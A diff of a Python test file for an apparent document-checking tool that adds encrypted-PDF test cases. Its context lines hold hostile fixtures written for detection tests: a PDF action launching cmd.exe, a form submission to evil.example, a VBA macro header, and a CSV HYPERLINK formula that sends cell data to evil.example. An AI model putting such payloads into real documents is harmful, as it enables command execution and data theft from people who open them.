@@ -11,6 +11,8 @@ import io
 import zipfile
 from collections.abc import Callable
 from dataclasses import dataclass
+from importlib.util import find_spec
+from pathlib import Path
 from typing import Any
 
 from tests.documents import making as make
@@ -21,6 +23,9 @@ JAN = "Jan Przykładny"
 PESELS = ("00010100008", "02210100008")
 MACRO = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1VBA"
 OPEN_LAUNCH = b"/OpenAction<</S/Launch/F(cmd.exe)>>"
+# Without it AES can be neither read nor written, so that such files, with an empty password, are kept.
+AES = find_spec("cryptography") is not None
+KEPT = Path(__file__).parent / "kept"
 JUMP = b"<</S/GoTo/D[3 0 R/Fit]/Next %s>>"
 SENDS = b"<</S/SubmitForm/F(https://evil.example/)>>"
 ICS = b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nUID:1\r\n%s\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
@@ -221,6 +226,12 @@ TAKEN = [
     good("pdf_described_figure", "a.pdf", lambda: pdf(element=b"<</Type/StructElem/S/Figure/P 7 0 R/K 0/Alt(Mapa)>>")),
     good("pdf_table", "a.pdf", lambda: pdf(element=b"<</Type/StructElem/S/Table/P 7 0 R/K[]>>"), "tables_without_header"),
     good("pdf_no_extraction", "a.pdf", lambda: make.protected_pdf(permissions=-4 & ~0b10000 & ~0b1000000000), "no_extraction"),
+    *(
+        good(f"pdf_t26_{kind}", "a.pdf", (KEPT / f"{kind}.pdf").read_bytes, "copying_forbidden", verdict="accessible")
+        if AES
+        else bad(f"pdf_t26_{kind}", "a.pdf", "protected", (KEPT / f"{kind}.pdf").read_bytes)
+        for kind in ("aes-128", "aes-256")
+    ),
     good("pdf_t26_copying_forbidden", "a.pdf", lambda: make.protected_pdf(permissions=-4 & ~0b10000), "copying_forbidden", verdict="accessible"),
     good("csv_t19_formula", "lista.csv", lambda: b'imie;kwota\n=HYPERLINK("http://evil.example/?"&A1;"klik");1\n', hidden="formulas", verdict=PLAIN),
     good("csv_t19_formula_quoted", "lista.csv", lambda: b'imie,kwota\nAnna,"=1+1"\nJan,@SUM(A1)\nEwa,+A1\nIda,-HYPERLINK(1)\n', hidden="formulas", verdict=PLAIN),
